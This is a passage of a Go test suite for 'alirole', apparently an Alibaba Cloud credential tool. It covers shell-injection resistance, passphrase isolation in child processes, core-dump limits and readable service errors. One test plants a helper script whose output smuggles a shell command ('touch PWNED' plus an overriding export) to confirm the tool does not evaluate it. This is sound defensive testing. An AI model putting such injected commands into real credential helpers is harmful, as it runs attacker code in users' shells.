	}
	s, _ := ready(t)
	dir := t.TempDir()
	marker := filepath.Join(dir, "PWNED")
	const helperSecret = "HelperSecret+shown/by=credentials-go"
	helper := filepath.Join(dir, "helper.sh")
	script := "#!/bin/sh\necho 'touch " + marker + "; export ALIBABA_CLOUD_ACCESS_KEY_ID=evil'\n" +
		`echo '{"mode":"AK","access_key_id":"LTAI5tHelper","access_key_secret":"` + helperSecret + `"'` + "\n"
	if err := os.WriteFile(helper, []byte(script), 0o700); err != nil {
		t.Fatal(err)
	}
	appendConfig(t, s.path("config"), "\n[profile bad]\ncredential_source = external\nprocess_command = "+helper+"\n")
	bash := func(extra []string, code string) result {
		t.Helper()
		cmd := exec.Command("bash", "-c", code)
		cmd.Env = append(append(append([]string{}, s.env...), "ALIROLE="+binPath), extra...)
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		err := cmd.Run()
		r := result{out.String(), errb.String(), 0}
		if ee, ok := err.(*exec.ExitError); ok {
			r.code = ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		return r
	}
	for _, debug := range []string{"", "credential,sdk"} {
		r := bash([]string{"DEBUG=" + debug}, `eval "$("$ALIROLE" export bad)"; echo "id=$ALIBABA_CLOUD_ACCESS_KEY_ID"`)
		if _, err := os.Stat(marker); err == nil {
			t.Fatalf("DEBUG=%s: the helper's output ran as shell code", debug)
		}
		if r.stdout != "id=\n" {
			t.Errorf("DEBUG=%s: stdout %q, want only the script's own line", debug, r.stdout)
		}
		if strings.Contains(r.stderr, helperSecret) || strings.Contains(r.stderr, "touch") {
			t.Errorf("DEBUG=%s: the helper's output reached stderr:\n%s", debug, r.stderr)
		}
		if !strings.Contains(r.stderr, "process_command did not print the credentials JSON") || !strings.Contains(r.stderr, "dropped") {
			t.Errorf("DEBUG=%s: stderr does not explain:\n%s", debug, r.stderr)
		}
	}
	// A working chain with credentials-go's request dump on: alirole's
	// output is the only thing on stdout, and it evaluates.
	r := bash([]string{"DEBUG=credential,sdk", "OUT=" + filepath.Join(dir, "out")}, `out=$("$ALIROLE" export --refresh audit) || exit 9; printf '%s\n' "$out" > "$OUT"; eval "$out"; echo "id=$ALIBABA_CLOUD_ACCESS_KEY_ID"; "$ALIROLE" whoami audit | head -1`)
	if r.code != 0 || !strings.HasPrefix(r.stdout, "id=STS.") || !strings.Contains(r.stdout, "\nAccount:  "+acct+"\n") || strings.Count(r.stdout, "\n") != 2 {
		t.Fatalf("eval with DEBUG=credential: %s", r)
	}
	data, err := os.ReadFile(filepath.Join(dir, "out"))
	if err != nil {
		t.Fatal(err)
	}
	vars := 0
	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		if !regexp.MustCompile(`^(export [A-Z_]+=|unset [A-Z_ ]+$)`).MatchString(line) {
			t.Errorf("alirole export printed a line that is not its own: %q", line)
		}
		vars++
	}
	env := envMap(strings.NewReplacer("export ", "", "'", "", "\n", "\x00").Replace(string(data)))
	for _, k := range []string{"ALIBABA_CLOUD_ACCESS_KEY_SECRET", "ALIBABA_CLOUD_SECURITY_TOKEN"} {
		v := env[k]
		if len(v) < 8 {
			t.Fatalf("no %s exported", k)
		}
		for _, f := range []string{v, url.QueryEscape(v)} {
			if strings.Contains(r.stderr, f) {
				t.Errorf("stderr holds %s", k)
			}
		}
	}
	if !strings.Contains(r.stderr, "dropped") {
		t.Errorf("DEBUG=credential,sdk printed nothing to drop: the test lost its point\n%s", r.stderr)
	}
	if m := stsToken.FindString(r.stderr); m != "" {
		t.Errorf("stderr holds a token")
	}
	t.Logf("stdout guard: %d lines of alirole output, library output dropped: %q", vars, regexp.MustCompile(`dropped \d+ bytes`).FindAllString(r.stderr, -1))
}

// coreLimit returns the soft and hard "Max core file size" of a limits
// file.
func coreLimit(t *testing.T, limits string) (soft, hard string) {
	t.Helper()
	for _, line := range strings.Split(limits, "\n") {
		if strings.HasPrefix(line, "Max core file size") {
			f := strings.Fields(strings.TrimPrefix(line, "Max core file size"))
			if len(f) >= 2 {
				return f[0], f[1]
			}
		}
	}
	t.Fatalf("no core limit in %q", limits)
	return "", ""
}

// TestChildrenLackPassphraseAndCoreDumps checks that no child alirole
// starts inherits ALIROLE_FILE_PASSPHRASE (an External helper run by
// credentials-go with os.Environ, an exec'd program, an exec --server
// child, the browser of login), that a running alirole has a core limit of
// 0 (read by its External helper from /proc/PPID/limits while alirole
// waits for it), and that the program exec puts in alirole's place gets
// the user's own core limit back.
func TestChildrenLackPassphraseAndCoreDumps(t *testing.T) {
	t.Parallel()
	if _, err := os.Stat("/proc/self/limits"); err != nil {
		t.Skip("no /proc")
	}
	s, emu := ready(t)
	dir := t.TempDir()
	helper := filepath.Join(dir, "helper.sh")
	script := "#!/bin/sh\nenv > " + dir + "/helper.env\ncat /proc/$PPID/limits > " + dir + "/alirole.limits\n" +
		`echo '{"mode":"AK","access_key_id":"` + aliceKeyID + `","access_key_secret":"` + aliceSecret + `"}'` + "\n"
	browser := filepath.Join(dir, "browser.sh")
	if err := os.WriteFile(helper, []byte(script), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(browser, []byte("#!/bin/sh\nenv > "+dir+"/browser.env\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	appendConfig(t, s.path("config"), "\n[profile ext]\ncredential_source = external\nprocess_command = "+helper+"\n")
	// alirole starts with the highest core limit the test may set, so
	// that 0 is its own doing.
	run := func(extra []string, args ...string) result {
		t.Helper()
		cmd := exec.Command("sh", append([]string{"-c", `ulimit -S -c "$(ulimit -H -c)"; exec "$0" "$@"`, binPath}, args...)...)
		cmd.Env = append(append([]string{}, s.env...), extra...)
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		err := cmd.Run()
		if err != nil {
			t.Fatalf("alirole %v: %v\n%s", args, err, errb.String())
		}
		return result{out.String(), errb.String(), 0}
	}
	_, hard := coreLimit(t, readFile(t, "/proc/self/limits"))
	if hard == "0" {
		t.Log("the hard core limit is 0: the restored limit cannot be told from alirole's")
	}

	run(nil, "export", "--format", "json", "ext")
	helperEnv := readFile(t, filepath.Join(dir, "helper.env"))
	if strings.Contains(helperEnv, "ALIROLE_FILE_PASSPHRASE") || strings.Contains(helperEnv, passphrase) {
		t.Error("the External helper inherited the file keychain passphrase")
	}
	if !strings.Contains(helperEnv, "ALIROLE_FILE_DIR=") {
		t.Fatal("helper environment not captured")
	}
	soft, h := coreLimit(t, readFile(t, filepath.Join(dir, "alirole.limits")))
	if soft != "0" || h != hard {
		t.Errorf("running alirole has core limit %s/%s, want 0/%s", soft, h, hard)
	}

	r := run(nil, "exec", "prod", "--", "sh", "-c", "env; cat /proc/self/limits")
	if strings.Contains(r.stdout, "ALIROLE_FILE_PASSPHRASE") || strings.Contains(r.stdout, passphrase) {
		t.Error("the exec'd program inherited the passphrase")
	}
	if soft, h := coreLimit(t, r.stdout); soft != hard || h != hard {
		t.Errorf("the exec'd program has core limit %s/%s, want the user's %s/%s", soft, h, hard, hard)
	}
	r = run(nil, "exec", "--server", "prod", "--", "sh", "-c", "env; cat /proc/$PPID/limits; echo ---; cat /proc/self/limits")
	if strings.Contains(r.stdout, "ALIROLE_FILE_PASSPHRASE") || strings.Contains(r.stdout, passphrase) {
		t.Error("the exec --server child inherited the passphrase")
	}
	server, child, _ := strings.Cut(r.stdout, "\n---\n")
	if soft, _ := coreLimit(t, server); soft != "0" {
		t.Errorf("alirole serving credentials has core limit %s, want 0", soft)
	}
	if soft, h := coreLimit(t, child); soft != "0" || h != hard {
		t.Errorf("the exec --server child has core limit %s/%s, want 0/%s (documented)", soft, h, hard)
	}
	run(append(signinEnv(emu), "BROWSER="+browser+" %s"), "login", "prod")
	browserEnv := readFile(t, filepath.Join(dir, "browser.env"))
	if strings.Contains(browserEnv, "ALIROLE_FILE_PASSPHRASE") || strings.Contains(browserEnv, passphrase) || !strings.Contains(browserEnv, "ALIROLE_FILE_DIR=") {
		t.Errorf("browser environment wrong (passphrase inherited or not captured)")
	}
}

func readFile(t *testing.T, path string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// TestServiceFailuresAreReadable: every STS, RAM and sign-in failure says
// in words what happened, at which hop, and what to do, without library
// internals (parser errors, nil pointers, upstream typos).
func TestServiceFailuresAreReadable(t *testing.T) {
	t.Parallel()
	s, emu := rotationSandbox(t, testWorld())
	s.ok("export", "prod") // caches admin and prod
	internals := []string{"json.Unmarshal", "invalid character", "nil pointer", "panic", "enviroment", "runtime error", "SDK."}
	for _, tc := range []struct {
		name  string
		fault stsemu.Fault
		extra []string
		args  []string
		want  []string
	}{
		{"AssumeRole HTML 502", stsemu.Fault{Action: "AssumeRole", MalformedBody: true, Status: 502}, nil, []string{"export", "audit"},
			[]string{`profile "audit"`, "HTML page", "what to do:", "proxy"}},
		{"AssumeRole HTML 200", stsemu.Fault{Action: "AssumeRole", MalformedBody: true}, nil, []string{"export", "audit"},
			[]string{`profile "audit"`, "not JSON", "what to do:"}},
		{"AssumeRole 500", stsemu.Fault{Action: "AssumeRole", Status: 500}, nil, []string{"export", "audit"},
			[]string{`profile "audit"`, "InternalError", "what to do: STS failed on its side: try again"}},
		{"AssumeRole without Expiration", stsemu.Fault{Action: "AssumeRole", RoleArn: auditArn, OmitExpiration: true}, nil, []string{"export", "--no-cache", "audit"},
			[]string{`profile "audit"`, "no Expiration", "what to do:"}},
		{"GetCallerIdentity HTML", stsemu.Fault{Action: "GetCallerIdentity", MalformedBody: true, Status: 502}, nil, []string{"whoami", "prod"},
			[]string{"profile prod", "not an STS error document", "--sts-endpoint"}},
		{"GetCallerIdentity 500", stsemu.Fault{Action: "GetCallerIdentity", Status: 500}, nil, []string{"whoami", "prod"},
			[]string{"InternalError", "what to do: STS failed on its side"}},
		{"CreateAccessKey HTML", stsemu.Fault{Action: "CreateAccessKey", MalformedBody: true, Status: 502}, nil, []string{"rotate", "alice"},
			[]string{"CreateAccessKey", "not a RAM error document", "--ram-endpoint"}},
		{"CreateAccessKey 500", stsemu.Fault{Action: "CreateAccessKey", Status: 500}, nil, []string{"rotate", "alice"},
			[]string{"InternalError", "try again"}},
		{"check with STS down", stsemu.Fault{}, []string{"ALIROLE_STS_ENDPOINT=127.0.0.1:1"}, []string{"rotate", "alice"},
			[]string{"STS could not check the stored key", "try again"}},
		{"GetSigninToken 500", stsemu.Fault{Action: "GetSigninToken", Status: 500}, signinEnv(emu), []string{"login", "--stdout", "prod"},
			[]string{`profile "prod"`, "try again"}},
		{"whoami without credentials", stsemu.Fault{}, nil, []string{"whoami"},
			[]string{"no credentials in the environment", "give a PROFILE"}},
	} {
		emu.ClearFaults()
		if tc.fault != (stsemu.Fault{}) {
			emu.Inject(tc.fault)
		}
		r := s.run(tc.extra, tc.args...)
		if r.code == 0 {
			t.Errorf("%s: succeeded: %s", tc.name, r)
			continue
		}
		for _, w := range tc.want {
			if !strings.Contains(r.stderr, w) {
				t.Errorf("%s: stderr lacks %q:\n%s", tc.name, w, r.stderr)
			}
		}
		for _, bad := range internals {
			if strings.Contains(r.stderr, bad) {
				t.Errorf("%s: stderr shows library internals (%q):\n%s", tc.name, bad, r.stderr)
			}
		}
	}
	emu.ClearFaults()
}
